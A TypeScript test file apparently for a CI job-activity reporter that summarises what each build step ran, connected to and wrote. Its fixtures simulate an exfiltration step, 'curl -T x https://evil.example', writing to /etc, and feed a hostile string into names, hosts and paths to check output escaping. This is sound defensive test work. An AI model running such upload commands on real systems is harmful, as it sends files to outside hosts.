import { expect, test } from "vitest";
import { type Activity, NO_ACTIVITY } from "../../src/report/activity.ts";
import { activityLines } from "../../src/report/activity-lines.ts";
import { ActivityObserver } from "../../src/report/activity-observer.ts";
import { activitySections } from "../../src/report/activity-section.ts";
import { renderSummary, SUMMARY_LIMIT } from "../../src/report/summary.ts";
import { NO_TITLES } from "../../src/report/titles.ts";
import { event, HOSTILE, report } from "./reports.ts";

const SCRIPT = "/w/_temp/1ee9dd1a-47b5-4a2b-bb4a-6d4ba5d6a0b3.sh";
const BASH = { exec_path: "/usr/bin/bash", argv: ["bash", "-e", SCRIPT], cwd: "/w/app/app" };
const WORKER = { exec_path: "/bin/Runner.Worker", argv: [], is_runner: true };
const CURL = { exec_path: "/usr/bin/curl", argv: ["curl", "-T", "x"], ancestors: [BASH, WORKER] };

function activityOf(events: readonly object[], lines: readonly [string, string][] = []): Activity {
  const observer = new ActivityObserver();
  for (const each of events) observer.add(event(each));
  return observer.activity({ ...NO_TITLES, steps: new Map(lines) });
}

const STEP = { ...BASH, ancestors: [WORKER] };
const CONNECT = {
  remote_ip: "203.0.113.9",
  remote_port: 443,
  protocol: "tcp",
  family: "ipv4",
  remote_domains: ["evil.example"],
};

const DID = [
  { event_type: "process_exec", process: STEP, payload: {} },
  { event_type: "process_exec", process: CURL, payload: {} },
  { event_type: "network_connect", process: CURL, payload: CONNECT, count: 1200 },
  { event_type: "domain", process: CURL, payload: { domain: "other.example", source: "tls" } },
  { event_type: "file_open", process: CURL, payload: { path: "/etc/x", is_write: true } },
  { event_type: "file_open", process: CURL, payload: { path: "/tmp/x/y", is_write: true } },
];

test("what a step did is one fold, with what matters most first", () => {
  expect(activitySections(activityOf(DID, [[SCRIPT, "curl -T x https://evil.example"]]), 10_000)).toBe(
    `<details><summary>What each step did: 1 step</summary>
<details><summary><code>curl -T x https://evil.example</code>: 1 host, 1 name without a connection, 1 place written or opened for writing outside the workspace, 2 programs</summary>
<p>Connected to</p>
<ul>
<li><code>evil.example</code> at <code>203.0.113.9:443</code> by <code>curl</code> (1,200 times)</li>
</ul>
<p>Asked for, and not connected to</p>
<ul>
<li><code>other.example</code> given to a TLS server by <code>curl</code></li>
</ul>
<p>Written, or opened for writing, outside the workspace</p>
<ul>
<li><code>/etc/x</code> by <code>curl</code></li>
<li>below <code>/tmp/x</code> by <code>curl</code></li>
</ul>
<p>Programs: <code>sh</code>, <code>curl</code></p>
</details>
<p>The workspace is <code>/w/app/app</code>.</p>
</details>

`,
  );
});

test("a terminal has a line for each step, and what it reached and wrote", () => {
  expect(activityLines(activityOf(DID))).toEqual([
    "Step: curl -T x: 1 host, 1 name without a connection, 1 place written or opened for writing outside the workspace, 2 programs",
    "  connected to evil.example at 203.0.113.9:443 by curl (1,200 times)",
    "  wrote or opened for writing /etc/x by curl",
  ]);
});

test("what is of no step comes last; where there is nothing else, it needs no fold of its own", () => {
  const outside = {
    event_type: "process_exec",
    process: { exec_path: "/usr/bin/make", argv: ["make"] },
    payload: {},
  };
  const [both, alone] = [[outside, ...DID], [outside]].map((events) =>
    activitySections(activityOf(events), 10_000),
  );
  expect(both?.indexOf("outside of all steps")).toBeGreaterThan(both?.indexOf("evil.example") ?? 0);
  const make = { exec_path: "/usr/bin/make", argv: ["make", "all"], ancestors: [WORKER] };
  const command = activityOf([{ event_type: "process_exec", process: make, payload: {} }]);
  expect(activitySections(command, 10_000)).toContain("<summary>What was done: 1 program</summary>\n<p>");
  expect(activityLines(command)).toEqual(["Step: make all: 1 program"]);
  expect(alone).toBe(
    "<details><summary>What was done: 1 program</summary>\n<p>Programs: <code>make</code></p>\n</details>\n\n",
  );
});

test("of a job that did nothing, or of which nothing is known, there is nothing to tell", () => {
  const read = { event_type: "file_open", process: STEP, payload: { path: "/etc/x", is_read: true } };
  for (const activity of [NO_ACTIVITY, activityOf([read])]) {
    expect(activitySections(activity, 10_000)).toBe("");
    expect(activityLines(activity)).toEqual([]);
  }
});

/** A step with many of each thing. */
function large(step: number): object[] {
  const script = `/w/_temp/1ee9dd1a-47b5-4a2b-bb4a-${String(step).padStart(12, "0")}.sh`;
  const process = { exec_path: "/usr/bin/bash", argv: ["bash", script], ancestors: [WORKER] };
  return Array.from({ length: 80 }, (_, n) => [
    { event_type: "process_exec", process: { ...process, exec_path: `/x/${n}` }, payload: {} },
    { event_type: "network_connect", process, payload: { ...CONNECT, remote_ip: `10.0.${step}.${n}` } },
    { event_type: "file_open", process, payload: { path: `/etc/${step}/${n}`, is_write: true } },
  ]).flat();
}

test.each([200_000, 50_000, 20_000, 10_000, 5000, 2000, 1000])(
  "in %d bytes there is as much as fits, and it is said what was cut",
  (room) => {
    const activity = activityOf(Array.from({ length: 12 }, (_, step) => large(step)).flat());
    const text = activitySections(activity, room);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(room);
    expect(text).toMatch(/… and \d+ more|and \d+ more steps? left out here|\d+ more steps? left out here/);
    expect(text.match(/<details>/g)).toHaveLength(text.match(/<\/details>/g)?.length ?? 0);
    expect(text).not.toContain("\n\n<");
  },
);

test("without room for anything there is nothing, not a part", () => {
  expect(activitySections(activityOf(DID), 50)).toBe("");
});

test("what there was no room to remember is told", () => {
  const activity = { ...activityOf(DID), leftOut: 3 };
  const [step] = activity.steps;
  if (step === undefined) throw new Error("no step");
  const leftOut = { programs: 1000, hosts: 2000, names: 0, files: 1, packages: 0 };
  const text = activitySections({ ...activity, steps: [{ ...step, leftOut }] }, 10_000);
  expect(text).toContain("<li>… and 2,000 times what there was no room for</li>");
  expect(text).toContain("<code>curl</code>, and 1,000 more</p>");
  expect(text).toContain("<p>3 events of further steps are not told here.</p>");
});

test("whatever a job is called, runs and reaches is shown as text, in a line of ours", () => {
  const process = {
    exec_path: HOSTILE,
    argv: [HOSTILE, "-x", HOSTILE],
    cwd: HOSTILE,
    ancestors: [BASH, WORKER],
  };
  const activity = activityOf(
    [
      { event_type: "process_exec", process, payload: {} },
      {
        event_type: "network_connect",
        process,
        payload: { ...CONNECT, remote_ip: HOSTILE, remote_domains: [HOSTILE] },
      },
      { event_type: "domain", process, payload: { domain: HOSTILE, source: "http" } },
      { event_type: "file_open", process, payload: { path: `/etc/${HOSTILE}`, is_write: true } },
      { event_type: "file_open", process, payload: { path: `/etc/${"\0".repeat(9000)}`, is_write: true } },
    ],
    [[SCRIPT, HOSTILE]],
  );
  const text = activitySections(activity, 100_000);
  const [, ...rest] = text.trimEnd().split("\n");
  for (const line of text.split("\n")) expect(line).not.toMatch(/<img|<b>|\p{C}|##\[/u);
  expect(rest.filter((line) => !line.startsWith("<"))).toEqual([]);
  expect(text.length).toBeLessThan(12_000);
  for (const line of activityLines(activity)) {
    expect(line).toMatch(/^(?:Step: | {2}(?:connected to|wrote|ran scripts of) )/);
    expect(line).not.toMatch(/\p{C}|##\[/u);
  }
});

test("the summary of a clean job has it, folded, and stays below the runner's limit", () => {
  const activity = activityOf(Array.from({ length: 200 }, (_, step) => large(step)).flat());
  const text = renderSummary(report({ activity }));
  expect(text).toContain("<details><summary>What each step did: 200 steps</summary>");
  expect(Buffer.byteLength(text)).toBeLessThan(SUMMARY_LIMIT);
});
